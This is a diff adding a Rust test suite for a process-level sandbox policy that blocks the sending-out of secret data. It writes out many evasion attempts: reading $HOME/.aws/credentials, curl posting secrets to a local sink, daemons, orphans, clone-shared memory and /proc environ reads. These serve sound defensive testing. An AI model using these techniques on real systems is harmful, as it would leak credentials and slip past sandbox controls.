@@ -1,0 +1,195 @@
+//! Processes: children, orphans, programs, and attempts to be somebody else.
+
+use crate::{CONNECT, POLICY, Stage, common::compile, python_flows, shell_flows};
+
+shell_flows! {
+    unrelated_processes_stay_clean: "cat $S > /dev/null; for i in 1 2 3; do cat script.sh > c$i; done; send c1; send c2; send c3"
+        => "sent c1\nsent c2\nsent c3", [];
+    a_background_child: "cat $S > out & wait; send out; send script.sh" => "kept out\nsent script.sh", [CONNECT];
+    a_child_that_no_terminal_ends: "nohup cat $S > out 2> /dev/null; send out; send script.sh"
+        => "kept out\nsent script.sh", [CONNECT];
+    a_session_of_its_own: "setsid -w cat $S > out; send out; send script.sh" => "kept out\nsent script.sh", [CONNECT];
+    a_child_of_a_child: "sh -c 'sh -c \"cat $HOME/.aws/credentials > out\"'; send out; send script.sh"
+        => "kept out\nsent script.sh", [CONNECT];
+    a_program_with_a_secret_in_it:
+        "( read x < $S; printf '#!/bin/sh\\ncurl -s -m 20 -d %s http://127.0.0.1:PORT/ || echo kept' \"$x\" > prog; chmod +x prog ); ./prog"
+        => "kept", [CONNECT];
+    two_at_once: "cat $S > a & cat $S > b & cat script.sh > c & wait; send a; send b; send c"
+        => "kept a\nkept b\nsent c", [CONNECT];
+    many_forks: "for i in $(seq 30); do ( true ) & done; wait; cat $S > out; for i in $(seq 30); do ( true ) & done; wait; send script.sh"
+        => "sent script.sh", [];
+    the_environment_of_a_program: "x=$(cat $S) bash -c 'echo $x > out'; send out" => "kept out", [CONNECT];
+}
+
+python_flows! {
+    a_program_executed_in_place: "
+data = read()
+os.execv('/usr/bin/curl', ['curl', '-s', '-o', '/dev/null', '--data-binary', data, f'http://127.0.0.1:{SINK}/'])
+" => "", [CONNECT];
+    a_child_inherits: "
+read()
+done(child(send))
+" => "kept", [CONNECT];
+    a_child_from_before_does_not: "
+reads, writes = os.pipe()
+def work():
+    os.close(writes)
+    os.read(reads, 1)
+    send()
+pid = child(work)
+os.close(reads)
+# Its first call comes while it is still clean.
+time.sleep(0.3)
+done(child(lambda: (os.close(writes), read())))
+os.close(writes)
+done(pid)
+" => "sent", [];
+    a_daemon_is_its_ancestors_child: "
+def grandchild():
+    os.setsid()
+    time.sleep(0.3)
+    send()
+    os.mkdir('sent')
+def middle():
+    read()
+    child(grandchild)
+done(child(middle))
+while not os.path.exists('sent'): time.sleep(0.01)
+" => "kept", [CONNECT];
+    a_clean_daemon_stays_clean: "
+def grandchild():
+    os.setsid()
+    time.sleep(0.3)
+    send()
+    os.mkdir('sent')
+done(child(read))
+done(child(lambda: child(grandchild)))
+while not os.path.exists('sent'): time.sleep(0.01)
+" => "sent", [];
+    an_orphan_of_one_that_was_killed: "
+def grandchild():
+    time.sleep(0.5)
+    send()
+    os.mkdir('sent')
+def middle():
+    read()
+    child(grandchild)
+    os.kill(os.getpid(), 9)
+done(child(middle))
+while not os.path.exists('sent'): time.sleep(0.01)
+" => "kept", [CONNECT];
+    an_orphan_that_its_grandparent_takes_over: "
+libc.prctl(36, 1, 0, 0, 0)
+def grandchild():
+    time.sleep(0.5)
+    send()
+    os.mkdir('sent')
+def middle():
+    read()
+    child(grandchild)
+    os.kill(os.getpid(), 9)
+done(child(middle))
+while not os.path.exists('sent'): time.sleep(0.01)
+" => "kept", [CONNECT];
+    a_program_started_without_a_copy_of_the_memory: "
+subprocess.run(['cat', S], stdout=subprocess.DEVNULL, check=True)
+os.waitpid(os.posix_spawn('/usr/bin/cat', ['cat', S], os.environ, file_actions=[(os.POSIX_SPAWN_OPEN, 1, 'out', os.O_WRONLY | os.O_CREAT, 0o600)]), 0)
+send(what='clean')
+send(read('out'), 'out')
+" => "sent clean\nkept out", [CONNECT];
+    another_thread: "
+import threading
+data = []
+thread = threading.Thread(target=lambda: data.append(read()))
+thread.start()
+thread.join()
+send(data[0])
+" => "kept", [CONNECT];
+    what_another_process_was_started_with: "
+def work():
+    os.execve('/usr/bin/sleep', ['sleep', '20'], {'X': read().decode()})
+pid = child(work)
+while b'sleep' not in open(f'/proc/{pid}/comm', 'rb').read(): time.sleep(0.01)
+send(what='clean')
+try:
+    read(f'/proc/{pid}/environ')
+    send(what='after')
+finally:
+    os.kill(pid, 9)
+" => "sent clean\nkept after", [CONNECT];
+    a_child_for_somebody_else: "
+result = libc.syscall(56, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0)
+if result == 0: os._exit(0)
+say(result, errno.errorcode[ctypes.get_errno()])
+" => "-1 EPERM", ["proc.syscall another parent"];
+}
+
+#[test]
+fn memory_shared_by_two_processes() {
+    let stage = Stage::new();
+    let source = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <stdlib.h>
+#include <unistd.h>
+#include <arpa/inet.h>
+#include <sys/wait.h>
+static char buffer[100], stack[65536];
+static int work(void *path) {
+    int fd = open(path, O_RDONLY);
+    read(fd, buffer, sizeof buffer - 1);
+    _exit(0);
+}
+int main(int count, char **arguments) {
+    int flags = atoi(arguments[1]) ? CLONE_VM | CLONE_VFORK : CLONE_VM;
+    waitpid(clone(work, stack + sizeof stack, flags | SIGCHLD, arguments[2]), 0, 0);
+    struct sockaddr_in to = {AF_INET, htons(atoi(arguments[3])), {htonl(INADDR_LOOPBACK)}};
+    int made = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(made, (void *)&to, sizeof to)) return printf("kept %zu\n", strlen(buffer)), 0;
+    write(made, buffer, strlen(buffer));
+    return printf("sent\n"), 0;
+}
+"#;
+    let program = compile(&stage.world, "shared", source);
+    let script = format!("{program} 0 $S PORT; {program} 1 $S PORT");
+    stage.check(&stage.shell(POLICY, &script), "kept 31\nkept 31", &[CONNECT]);
+}
+
+#[test]
+fn descriptors_shared_by_two_processes() {
+    let stage = Stage::new();
+    let source = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <stdlib.h>
+#include <unistd.h>
+#include <arpa/inet.h>
+#include <sys/wait.h>
+static char buffer[100], stack[65536];
+static int work(void *path) {
+    dup2(open(path, O_RDONLY), 50);
+    usleep(100000);
+    _exit(0);
+}
+int main(int count, char **arguments) {
+    int child = clone(work, stack + sizeof stack, CLONE_FILES | SIGCHLD, arguments[1]);
+    while (pread(50, buffer, sizeof buffer - 1, 0) <= 0) usleep(1000);
+    waitpid(child, 0, 0);
+    struct sockaddr_in to = {AF_INET, htons(atoi(arguments[2])), {htonl(INADDR_LOOPBACK)}};
+    int made = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(made, (void *)&to, sizeof to)) return printf("kept %zu\n", strlen(buffer)), 0;
+    write(made, buffer, strlen(buffer));
+    return printf("sent\n"), 0;
+}
+"#;
+    let program = compile(&stage.world, "shared", source);
+    stage.check(&stage.shell(POLICY, &format!("{program} $S PORT")), "kept 31", &[CONNECT]);
+}
